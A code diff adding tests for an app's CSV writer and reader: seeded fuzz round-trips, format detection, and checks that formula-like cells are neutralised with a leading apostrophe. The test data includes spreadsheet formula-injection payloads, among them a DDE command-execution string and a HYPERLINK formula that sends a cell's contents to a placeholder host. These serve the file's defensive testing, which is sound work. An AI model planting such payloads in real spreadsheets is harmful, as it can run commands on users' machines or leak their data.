@@ -1,0 +1,145 @@
+import { writeFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { describe, expect, test } from 'vitest'
+import { inspectTable, readTable } from '#electron/jobs/table/read-table.ts'
+import { createDecoder } from '#electron/lib/csv/encoding.ts'
+import { createRowReader } from '#electron/lib/csv/row-reader.ts'
+import { readCell, writeCell, writeRow } from '#electron/lib/csv/write-cell.ts'
+import { tempFolder } from '../../../helpers/temp-folder.ts'
+
+/** A row of numbers from 0 to 1 that is the same at each run. */
+function randomFrom(seed: number): () => number {
+  let state = seed
+  return () => {
+    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
+    return state / 2 ** 32
+  }
+}
+
+const pieces = [
+  ...[',', ';', '|', '\t', '"', '""', "'", "''", '=', '+', '-', '@', '\\', '%', '\0', '\u0001', '\u007f'],
+  ...['\n', '\r', '\r\n', '\n\r', '\u2028', '\u0085', '\u000b', '\u00a0', ' ', '   ', '\ufeff', '\ufffd'],
+  ...[
+    'sep=;',
+    '=1+1',
+    '+491711234567',
+    '+49 171',
+    '@SUM(A1)',
+    '-2+3',
+    "'=x",
+    '=cmd|’/C calc’!A0',
+    '{"a":"b"}',
+  ],
+  ...['ä', 'ß', 'é', '👩‍🚀', 'שלום', '\u202e', '𝒜', 'x', 'Ada', '0', '<b>', '&amp;', '\u001b[31m'],
+]
+
+const cellOf = (random: () => number): string =>
+  Array.from({ length: Math.floor(random() * 6) }, () => pieces[Math.floor(random() * pieces.length)]!).join(
+    '',
+  )
+
+/** What is behind an apostrophe is a text to a spreadsheet; a number with its plus is none of its formulas. */
+const isHarmless = (cell: string) => /^\+[0-9]{6,15}$/.test(cell) || !/^[=+\-@\t\r\n]/.test(cell)
+
+describe('what is written is read again, whatever the cells hold and however it is cut', () => {
+  test.each([1, 2, 3, 4, 5, 6, 7, 8])('by chance, %i', (seed) => {
+    const random = randomFrom(seed)
+    for (let round = 0; round < 60; round++) {
+      const width = 1 + Math.floor(random() * 5)
+      const rows = Array.from({ length: 12 }, () => Array.from({ length: width }, () => cellOf(random)))
+      const header = Array.from({ length: width }, (_, at) => `column ${at}`)
+      const bytes = Buffer.from([header, ...rows].map(writeRow).join(''))
+      const found: string[][] = []
+      const wrong: (string | null)[] = []
+      const reader = createRowReader(',', ({ cells, problem }) => {
+        found.push(cells.map(readCell))
+        if (problem !== null) wrong.push(problem)
+      })
+      const decoder = createDecoder('utf-8')
+      for (let at = 0; at < bytes.length;) {
+        const size = 1 + Math.floor(random() * (round % 3 === 0 ? 3 : 200))
+        reader.push(decoder.decode(bytes.subarray(at, at + size)))
+        at += size
+      }
+      reader.push(decoder.end())
+      reader.end()
+      expect(found).toEqual([header, ...rows])
+      expect(wrong).toEqual([])
+    }
+  })
+
+  test('and its form is guessed as it was written', async () => {
+    const random = randomFrom(9)
+    const file = join(tempFolder(), 'export.csv')
+    for (let round = 0; round < 150; round++) {
+      const rows = Array.from({ length: 8 }, () => [cellOf(random), '+491711234567', cellOf(random)])
+      writeFileSync(file, [['name', 'phone', 'note'], ...rows].map(writeRow).join(''))
+      const { format, binary } = inspectTable(file)
+      expect({ format, binary }).toEqual({
+        format: { encoding: 'utf-8', delimiter: ',', hasHeader: true },
+        binary: false,
+      })
+      const found: string[][] = []
+      await readTable(
+        file,
+        format,
+        ({ cells }) => found.push(cells.map(readCell)),
+        () => Promise.resolve(),
+      )
+      expect(found).toEqual(rows)
+    }
+  })
+})
+
+describe('a cell that a spreadsheet would run', () => {
+  const attacks = [
+    ...['=1+1', '=cmd|’/C calc’!A0', '=HYPERLINK("http://x.example?"&A1,"x")', '+1+1', '-1+1', '@SUM(1)'],
+    ...[
+      '\t=1+1',
+      '\r=1+1',
+      '\n=1+1',
+      '+',
+      '-',
+      '=',
+      '@',
+      '+49 171 2345678',
+      '+1234',
+      '+1234567890123456',
+      '-5',
+    ],
+  ]
+  test.each(attacks)('%j is disarmed, and is itself again when it is read', (text) => {
+    const written = writeCell(text)
+    const seen = written.slice(1, -1).replaceAll('""', '"')
+    expect(isHarmless(seen)).toBe(true)
+    expect(seen).toBe(`'${text}`)
+    expect(readCell(seen)).toBe(text)
+  })
+
+  test('a number with its plus stays as it is', () => {
+    expect(writeCell('+491711234567')).toBe('"+491711234567"')
+  })
+
+  test.each(["'", "''", "'x", "''x", "'=x", "''=x", "'''-", "'+491711234567", "'+1"])(
+    '%j, which begins with apostrophes already, comes back as it was',
+    (text) => {
+      const seen = writeCell(text).slice(1, -1)
+      expect(isHarmless(seen)).toBe(true)
+      expect(readCell(seen)).toBe(text)
+    },
+  )
+
+  test('whatever is written is harmless, and no two texts are written alike', () => {
+    const random = randomFrom(10)
+    const seen = new Map<string, string>()
+    for (let round = 0; round < 20_000; round++) {
+      const text = cellOf(random)
+      const written = writeCell(text)
+      const bare = written.slice(1, -1).replaceAll('""', '"')
+      expect(isHarmless(bare)).toBe(true)
+      expect(readCell(bare)).toBe(text)
+      expect(seen.get(written) ?? text).toBe(text)
+      seen.set(written, text)
+    }
+  })
+})
